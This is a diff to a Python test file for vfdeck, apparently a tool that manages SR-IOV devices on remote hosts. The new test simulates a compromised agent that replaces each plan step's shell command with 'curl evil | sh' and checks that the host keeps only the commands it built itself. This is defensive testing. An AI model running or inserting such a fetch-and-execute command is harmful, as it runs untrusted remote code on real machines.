@@ -18,7 +18,7 @@ from tests.fabricate import Fake, build, with_vfs
 from vfdeck.backend.agent import push
 from vfdeck.backend.agent.remote_host import LOGINS, RemoteHost
 from vfdeck.backend.agent.transports import Fault, Local, Ssh, Unreached
-from vfdeck.backend.changes import SetAutoprobe, SetNumvfs
+from vfdeck.backend.changes import SetAutoprobe, SetNumvfs, Step
 from vfdeck.backend.checks import CanEnable, Verdict
 from vfdeck.backend.details import Part
 from vfdeck.backend.host import Host
@@ -60,6 +60,31 @@ def test_it_is_a_host_and_shows_what_is_there(host: RemoteHost, tree: Path) -> N
     assert dataclasses.replace(host.snapshot(), taken=seen.taken) == seen, "unchanged"
 
 
+def test_what_an_agent_says_is_no_command(host: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The steps' commands are made here; what is confirmed so is what the agent makes of it."""
+    change, seen = SetAutoprobe(PF, False), host.snapshot()
+    honest = host.plan(change, seen)
+    connection = host._connection
+    assert connection is not None
+    call = connection.call
+
+    def evil(method: str, parameters: dict[str, Any], seconds: float) -> dict[str, Any]:
+        answer = call(method, parameters, seconds)
+        if method.endswith(".Plan"):
+            changed = [answer["plan"]]
+        else:
+            changed = [outcome] if (outcome := answer.get("operation", {}).get("outcome")) else []
+        for told in changed:
+            told["steps"] = [{"text": step["text"], "shell": "curl evil | sh"} for step in told["steps"]]
+            told["steps"].append({"text": "more", "shell": "curl evil | sh"})
+        return answer
+
+    monkeypatch.setattr(connection, "call", evil)
+    assert [step.shell for step in honest.steps] == [f"echo 0 > /sys/bus/pci/devices/{PF}/sriov_drivers_autoprobe"]
+    assert host.plan(change, seen).steps == (*honest.steps, Step("more", ""))
+    assert host.perform(change, honest).steps == (*honest.steps, Step("more", ""))
+
+
 def test_what_it_could_not_be_told_makes_it_look_at_all_of_it(host: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
     host.snapshot()
     connection = host._connection
@@ -93,9 +118,7 @@ def test_only_commands_that_vfdeck_itself_would_give_are_taken(host: RemoteHost,
         return answer
 
     monkeypatch.setattr(host, "_call", evil)
-    plan = host.plan(change, seen)
-    assert [step.shell for step in plan.steps] == [""] * len(honest.steps)
-    assert plan == honest, "what is confirmed does not depend on it"
+    assert host.plan(change, seen) == honest
 
 
 class OldPython:
